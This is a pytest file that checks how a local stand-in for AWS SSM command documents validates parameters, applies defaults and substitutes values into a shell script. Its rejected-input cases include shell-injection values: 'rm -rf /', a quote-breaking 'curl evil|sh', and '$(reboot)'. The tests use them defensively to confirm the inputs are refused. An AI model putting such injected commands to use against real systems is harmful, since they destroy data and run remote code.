"""The template's AgentDocument as SSM renders it: parameter checks, defaults, substitution."""

from __future__ import annotations

import pytest

from storagebench_local.ssm.document import (
    CommandDocument,
    InvalidDocumentError,
    InvalidParametersError,
    agent_document,
)
from storagebench_local.template import Template

GIVEN = {
    "AgentUrl": [
        "https://bucket.s3.eu-west-1.amazonaws.com/agent/agent.pyz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=3600"
    ],
    "AgentSha256": ["a" * 64],
    "PlanUrl": ["https://bucket.s3.eu-west-1.amazonaws.com/runs/r/c/plan.json?X-Amz-Signature=de"],
    "PlanSha256": ["b" * 64],
    "OutputUri": ["s3://bucket/runs/r/c/agent/"],
    "TaskTokenUri": ["s3://bucket/runs/r/c/instances/AROAEXAMPLEROLE12345:i-0abc/task-token"],
    "TaskTokenSha256": ["c" * 64],
    "Region": ["eu-west-1"],
}


@pytest.fixture(scope="module")
def document() -> CommandDocument:
    return agent_document(Template())


def test_every_placeholder_is_substituted_and_defaults_apply(document: CommandDocument) -> None:
    [step] = document.render(GIVEN)
    assert step.name == "runAgent" and step.timeout_s == 43200  # executionTimeout's default
    assert "{{" not in step.script
    assert "--region 'eu-west-1'" in step.script
    assert "--heartbeat-s '120'" in step.script  # HeartbeatSeconds' default
    assert f"echo '{'a' * 64}  agent.pyz' | sha256sum --check" in step.script
    assert f"--plan-sha256 '{'b' * 64}'" in step.script
    assert f"--task-token-sha256 '{'c' * 64}'" in step.script
    assert "--task-token-uri 's3://bucket/runs/r/c/instances/AROAEXAMPLEROLE12345:i-0abc/task-token'" in (
        step.script
    )
    assert (
        "'https://bucket.s3.eu-west-1.amazonaws.com/agent/agent.pyz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=3600'"
        in (step.script)
    )


def test_the_step_timeout_is_the_execution_timeout_given(document: CommandDocument) -> None:
    [step] = document.render({**GIVEN, "executionTimeout": ["900"]})
    assert step.timeout_s == 900


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"AgentSha256": ["not-a-digest"]}, "AgentSha256: 'not-a-digest' does not match allowedPattern"),
        ({"HeartbeatSeconds": ["1200"]}, "HeartbeatSeconds: '1200' does not match"),
        ({"executionTimeout": ["1; rm -rf /"]}, "executionTimeout: '1; rm -rf /' does not match"),
        ({"Unknown": ["x"]}, "Unknown: not a parameter of this document"),
        ({"Region": ["a", "b"]}, "Region: a String parameter takes exactly one value"),
        # a value that would leave its single quotes in the shell is refused before it runs
        ({"PlanUrl": ["https://x/p' ; curl evil|sh '"]}, "PlanUrl: .* does not match allowedPattern"),
        ({"TaskTokenUri": ["s3://b/k'$(reboot)'"]}, "TaskTokenUri: .* does not match allowedPattern"),
        ({"TaskTokenSha256": ["AQCE-a-token"]}, "TaskTokenSha256: .* does not match allowedPattern"),
        ({"OutputUri": ["s3://bucket/a b"]}, "OutputUri: 's3://bucket/a b' does not match"),
    ],
)
def test_parameters_ssm_would_refuse_are_refused_with_their_name(
    document: CommandDocument, change: dict[str, list[str]], named: str
) -> None:
    with pytest.raises(InvalidParametersError, match=named.replace("(", r"\(").replace(";", ";")):
        document.render({**GIVEN, **change})


def test_a_required_parameter_left_out_is_named(document: CommandDocument) -> None:
    given = {k: v for k, v in GIVEN.items() if k != "TaskTokenUri"}
    with pytest.raises(InvalidParametersError, match="TaskTokenUri: required and not given"):
        document.render(given)


def test_a_placeholder_without_a_parameter_is_refused() -> None:
    content = {
        "schemaVersion": "2.2",
        "parameters": {"A": {"type": "String"}},
        "mainSteps": [
            {"action": "aws:runShellScript", "name": "s", "inputs": {"runCommand": ["echo {{ B }}"]}}
        ],
    }
    with pytest.raises(InvalidDocumentError, match=r"\{\{ B \}\} names no parameter"):
        CommandDocument(content).render({"A": ["x"]})


@pytest.mark.parametrize(
    ("content", "named"),
    [
        ({"schemaVersion": "1.2", "mainSteps": []}, "schemaVersion '1.2'"),
        (
            {"schemaVersion": "2.2", "mainSteps": [{"action": "aws:runPowerShellScript", "name": "p"}]},
            "only aws:run",
        ),
        ({"schemaVersion": "2.2", "mainSteps": []}, "mainSteps: a non-empty list"),
    ],
)
def test_documents_the_stand_in_cannot_run_are_refused(content: dict[str, object], named: str) -> None:
    with pytest.raises(InvalidDocumentError, match=named):
        CommandDocument(content)
